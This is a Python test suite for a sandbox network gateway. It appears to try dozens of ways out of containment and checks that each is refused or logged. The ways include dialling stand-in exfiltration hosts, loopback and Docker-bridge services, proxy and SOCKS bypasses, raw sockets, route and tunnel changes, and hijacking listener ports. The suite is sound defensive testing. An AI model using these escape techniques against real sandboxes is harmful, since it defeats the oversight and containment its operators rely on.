"""Out by the network: addresses, ports, datagrams, the machine's own services, other families of sockets, the network's own settings."""

import contextlib
import fcntl
import os
import socket
import struct
import urllib.error
import urllib.request

from attempts import CANARY, FACTS, PATIENCE, Verdict, address_of, attempt, dial, get, hear, hear_answer, judged, say, say_tls, swallowed

# -- dialling addresses: every port has an address of its own, so that the record tells them apart

_CLEAR = {22: 22, 25: 25, 53: 53, 80: 80, 2375: 75, 3128: 128, 5432: 54, 6443: 64, 8080: 180, 8443: 184, 31337: 137}


def _denied(address: str, port: int) -> tuple[str, ...]:
    """What the record says: an action where the gateway listens, an attempt elsewhere."""
    if port in (80, 443, 3128):
        scheme, suffix = ("https", "") if port == 443 else ("http", "" if port == 80 else f":{port}")
        return "action.decided", '"deny"', f"{scheme}://{address}{suffix}/"
    return "attempt.refused", f"tcp {address} port {port}"


def _dials() -> None:
    for port, last in _CLEAR.items():
        address = f"203.0.113.{last}"

        @attempt(f"tcp4-{port}", *_denied(address, port))
        def _(address: str = address, port: int = port) -> Verdict:
            return judged(say(address, port, get(address)))

    for port, last in {22: "22", 80: "80", 8080: "180"}.items():
        address = f"2001:db8::{last}"

        @attempt(f"tcp6-{port}", *_denied(address, port))
        def _(address: str = address, port: int = port) -> Verdict:
            return judged(say(address, port, get(f"[{address}]")))


_dials()


@attempt("tcp4-443-without-a-name", "action.decided", '"deny"', "https://203.0.113.43/")
def _() -> Verdict:
    return judged(say_tls("203.0.113.43", 443, None, get("203.0.113.43")))


@attempt("tcp6-443-without-a-name", "action.decided", '"deny"', "https://2001:db8::443/")
def _() -> Verdict:
    return judged(say_tls("2001:db8::443", 443, None, get("[2001:db8::443]")))


@attempt("tcp-443-by-a-name-of-its-own", "action.decided", '"deny"', "https://exfiltrate.example/by-sni")
def _() -> Verdict:
    return judged(say_tls("203.0.113.44", 443, "exfiltrate.example", get("exfiltrate.example", "/by-sni")))


@attempt("tcp4-inside-ipv6", "action.decided", '"deny"', "http://203.0.113.91/")
def _() -> Verdict:
    return judged(say("::ffff:203.0.113.91", 80, get("203.0.113.91")))


@attempt("tcp-6to4", "action.decided", '"deny"', "http://2002:cb00:715c::1/")
def _() -> Verdict:
    return judged(say("2002:cb00:715c::1", 80, get("[2002:cb00:715c::1]")))


@attempt("tcp-every-port-of-one-address", "attempt.refused", "tcp 203.0.113.77 port")
def _() -> Verdict:
    """Ports that neither side serves, and those the world outside does."""
    got = []
    for port in (1, 22, 2376, 8080, 27017):
        with contextlib.suppress(OSError):
            if CANARY in say("203.0.113.77", port, get("203.0.113.77")):
                got.append(port)
    return bool(got), f"ports that answered: {got}"


@attempt("tcp-fast-open")
def _() -> Verdict:
    """Data with the first packet, before anybody accepted: switched off, so the kernel says no before there is a packet."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE)
        sock.sendto(get("203.0.113.93"), 0x20000000, ("203.0.113.93", 8080))
        return judged(hear_answer(sock))


@attempt("tcp-source-port-of-dns", "attempt.refused", "tcp 203.0.113.94 port 8080")
def _() -> Verdict:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE)
        with contextlib.suppress(OSError):
            sock.bind(("0.0.0.0", 53))
        sock.connect(("203.0.113.94", 8080))
        sock.sendall(get("203.0.113.94"))
        return judged(hear_answer(sock))


# -- datagrams


def _datagrams() -> None:
    for name, address, port in (
        ("udp4-123", "203.0.113.23", 123),
        ("udp4-443", "203.0.113.143", 443),
        ("udp4-9999", "203.0.113.99", 9999),
        ("udp4-31337", "203.0.113.31", 31337),
        ("udp6-443", "2001:db8::143", 443),
        ("udp6-9999", "2001:db8::99", 9999),
    ):

        @attempt(name, "attempt.refused", f"udp {address} port {port}")
        def _(address: str = address, port: int = port) -> Verdict:
            return swallowed(address, port, b"the configuration")


_datagrams()


@attempt("udp-multicast", "attempt.refused", "udp 224.0.0.251 port 5353")
def _() -> Verdict:
    """Somebody would have to answer or take it: with a second socket of its own that listens, it only talks to itself."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE / 10)
        sock.sendto(b"the configuration", ("224.0.0.251", 5353))
        with contextlib.suppress(TimeoutError):
            return True, f"answered with {len(sock.recv(4096))} bytes"
    return False, "nobody answered"


@attempt("udp-broadcast")
def _() -> Verdict:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE / 10)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(b"the configuration", ("255.255.255.255", 9999))
        with contextlib.suppress(TimeoutError):
            return True, f"answered with {len(sock.recv(4096))} bytes"
    return False, "nobody answered"


# -- services of the host


def _services() -> None:
    port = FACTS.get("loopback_port", 6379)
    for name, address in (
        ("loopback", "127.0.0.1"),
        ("loopback-ipv6", "::1"),
        ("loopback-zero", "0.0.0.0"),
        ("loopback-other", "127.1.2.3"),
        ("loopback-inside-ipv6", "::ffff:127.0.0.1"),
        ("host-docker-bridge", "172.17.0.1"),
        ("host-private-10", "10.0.0.1"),
        ("host-private-192", "192.168.0.1"),
    ):
        at = 2375 if name == "host-docker-bridge" else port
        there = "127.0.0.1" if address in ("0.0.0.0", "::ffff:127.0.0.1") else address  # where the kernel takes it

        @attempt(name, "attempt.refused", f"tcp {there} port {at}")
        def _(address: str = address, at: int = at) -> Verdict:
            return judged(say(address, at, get("localhost")))

    @attempt("loopback-by-the-proxy", "action.decided", '"deny"', f"http://127.0.0.1:{port}/by-proxy")
    def _() -> Verdict:
        return judged(
            say(
                FACTS["proxy"],
                3128,
                get(f"127.0.0.1:{port}", f"http://127.0.0.1:{port}/by-proxy"),
            )
        )

    @attempt("loopback-by-connect", "action.decided", '"deny"', f"http://localhost:{port}/by-connect")
    def _() -> Verdict:
        with dial(FACTS["proxy"], 3128) as sock:
            sock.sendall(f"CONNECT localhost:{port} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode())
            sock.recv(4096)
            sock.sendall(get(f"localhost:{port}", "/by-connect"))
            return judged(hear_answer(sock))

    @attempt("loopback-by-the-gateway-port", "action.decided", '"deny"', "http://127.0.0.1/by-gateway-port")
    def _() -> Verdict:
        return judged(say("127.0.0.1", 80, get("127.0.0.1", "/by-gateway-port")))


_services()


@attempt("abstract-socket-of-the-host")
def _() -> Verdict:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\0" + FACTS["abstract"])
    return True, "connected"


@attempt("abstract-sockets-in-sight")
def _() -> Verdict:
    """Whatever /proc/net/unix names that is not ours."""
    with open("/proc/net/unix") as table:
        names = [line.split()[7] for line in table.read().splitlines()[1:] if len(line.split()) > 7]
    reached = []
    for name in names:
        if name.startswith("@"):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
                sock.connect("\0" + name[1:])
                reached.append(name)
    return bool(reached), f"{len(names)} names in sight; reached {reached}"


# -- the neighbour: another run of the same installation


@attempt("neighbour-abstract-socket")
def _() -> Verdict:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\0" + FACTS["neighbour"]["abstract"])
    return True, "connected"


@attempt("neighbour-by-loopback", "attempt.refused", "tcp 127.0.0.1 port 7777")
def _() -> Verdict:
    return judged(say("127.0.0.1", FACTS["neighbour"]["port"], get("neighbour")))


@attempt("neighbour-by-an-address-of-its-own", "attempt.refused", "tcp 198.51.100.77 port 7777")
def _() -> Verdict:
    return judged(say(FACTS["neighbour"]["address"], FACTS["neighbour"]["port"], get("neighbour")))


@attempt("neighbour-by-datagram", "attempt.refused", "udp 198.51.100.77 port 7778")
def _() -> Verdict:
    return swallowed(FACTS["neighbour"]["address"], FACTS["neighbour"]["port"] + 1, b"are you there")


# -- clients that ignore what they are told, and other protocols


@attempt("proxy-variables-ignored", "action.decided", '"deny"', "http://203.0.113.50/no-proxy")
def _() -> Verdict:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open("http://203.0.113.50/no-proxy", timeout=PATIENCE) as answer:
            return judged(answer.read())
    except urllib.error.HTTPError as refusal:
        return judged(refusal.read())


@attempt("proxy-variables-of-its-own", "attempt.refused", "tcp 203.0.113.51 port 8080")
def _() -> Verdict:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://203.0.113.51:8080"}))
    with opener.open("http://exfiltrate.example/", timeout=PATIENCE) as answer:
        return judged(answer.read())


@attempt("socks5-at-the-proxy", "attempt.refused", "proxy.bailiwick.internal:3128")
def _() -> Verdict:
    with dial(FACTS["proxy"], 3128) as sock:
        sock.sendall(b"\x05\x01\x00")
        answer = hear(sock, 2)
        return answer[:2] == b"\x05\x00", f"answered {answer[:20]!r}"


@attempt("socks4-elsewhere", "attempt.refused", "port 1080")
def _() -> Verdict:
    with dial(FACTS["proxy"], 1080) as sock:
        sock.sendall(b"\x04\x01\x00\x50\xcb\x00\x71\x01\x00")
        return True, "connected"


@attempt("ftp", "attempt.refused", "tcp 203.0.113.21 port 21")
def _() -> Verdict:
    with dial("203.0.113.21", 21) as sock:
        return True, repr(hear(sock, 3))


@attempt("smtp-by-name", "attempt.refused", "tcp mail.exfiltrate.example port 25")
def _() -> Verdict:
    with dial(address_of("mail.exfiltrate.example"), 25) as sock:
        return True, repr(hear(sock, 3)[:20])


@attempt("ssh-by-an-allowed-name", "attempt.refused", "tcp open.internal port 22")
def _() -> Verdict:
    with dial(address_of("open.internal"), 22) as sock:
        sock.sendall(b"SSH-2.0-hostile\r\n")
        return True, repr(hear(sock, 3)[:20])


# -- other families, and the network's own settings


def _families() -> None:
    for name, family, kind, protocol in (
        ("socket-raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        ("socket-raw-ip", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
        ("socket-raw-ipv6", socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
        ("socket-ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
        ("socket-packet", 17, socket.SOCK_RAW, socket.htons(3)),
        ("socket-packet-cooked", 17, socket.SOCK_DGRAM, socket.htons(3)),
        ("socket-netlink-routes", 16, socket.SOCK_RAW, 0),
        ("socket-netlink-diagnostics", 16, socket.SOCK_RAW, 4),
        ("socket-netlink-audit", 16, socket.SOCK_RAW, 9),
        ("socket-vsock", 40, socket.SOCK_STREAM, 0),
        ("socket-crypto", 38, 5, 0),
        ("socket-xdp", 44, socket.SOCK_RAW, 0),
        ("socket-bluetooth", 31, socket.SOCK_RAW, 1),
        ("socket-can", 29, socket.SOCK_RAW, 1),
        ("socket-tipc", 30, socket.SOCK_SEQPACKET, 0),
        ("socket-sctp", socket.AF_INET, socket.SOCK_STREAM, 132),
        ("socket-multipath", socket.AF_INET, socket.SOCK_STREAM, 262),
        ("socket-udplite", socket.AF_INET, socket.SOCK_DGRAM, 136),
    ):

        @attempt(name)
        def _(family: int = family, kind: int = kind, protocol: int = protocol) -> Verdict:
            with socket.socket(family, kind, protocol):
                return True, "made"


_families()


@attempt("route-added")
def _() -> Verdict:
    """The old way, by ioctl: netlink is a socket it does not get."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        entry = struct.pack("L16s16s16sh", 0, *(socket.inet_aton(a).rjust(8, b"\0").ljust(16, b"\0") for a in ("0.0.0.0", "203.0.113.1", "0.0.0.0")), 3)
        fcntl.ioctl(sock, 0x890B, entry.ljust(120, b"\0"))  # SIOCADDRT
    return True, "added"


@attempt("link-changed")
def _() -> Verdict:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, 0x8914, struct.pack("16sh22x", b"lo", 0))  # SIOCSIFFLAGS: lo down
    return True, "changed"


@attempt("address-added")
def _() -> Verdict:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, 0x8916, struct.pack("16sH2x4s8x8x", b"lo", socket.AF_INET, socket.inet_aton("203.0.113.1")))  # SIOCSIFADDR
    return True, "added"


@attempt("tunnel-made")
def _() -> Verdict:
    descriptor = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(descriptor, 0x400454CA, struct.pack("16sH22x", b"tun0", 1))
    return True, "made"


@attempt("interface-of-its-choice")
def _() -> Verdict:
    """Past the local routes, by naming a device that leads out."""
    others = [name for _, name in socket.if_nameindex() if name != "lo"] if os.path.isdir("/sys/class/net") else []
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE)
        sock.setsockopt(socket.SOL_SOCKET, 25, (others[0] if others else "eth0").encode() + b"\0")  # SO_BINDTODEVICE
        sock.connect(("203.0.113.88", 8080))
    return True, "connected"


@attempt("packets-marked")
def _() -> Verdict:
    """Another routing table is chosen by a mark, where one may be set."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, 36, 1)  # SO_MARK
    return True, "marked"


@attempt("source-routed", "attempt.refused", "tcp 203.0.113.89 port 8080")
def _() -> Verdict:
    """By way of an address of its choice (RFC 791, loose source routing)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE)
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton("10.0.0.1") + b"\0")  # IP_OPTIONS
        sock.connect(("203.0.113.89", 8080))
        sock.sendall(get("203.0.113.89"))
        return judged(hear_answer(sock))


# -- the gateway's listeners


@attempt("listener-bound-beside-on-the-wildcard")
def _() -> Verdict:
    took = []
    for family, anywhere in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        for port in (80, 443, 3128):
            with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                sock.bind((anywhere, port))
                sock.listen()
                took.append((anywhere, port))
    return bool(took), f"took {took}"


@attempt("listener-of-names-bound-beside")
def _() -> Verdict:
    took = []
    for family, anywhere in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            sock.bind((anywhere, 53))
            took.append(anywhere)
    return bool(took), f"took {took}"


@attempt("listener-over-an-address-of-its-own")
def _() -> Verdict:
    """It may talk to itself; what it says there reaches nobody, and everybody else's way is as it was."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("203.0.113.200", 80))
        sock.listen()
    return CANARY in say("203.0.113.201", 80, get("203.0.113.201")), "another address is still the gateway's"
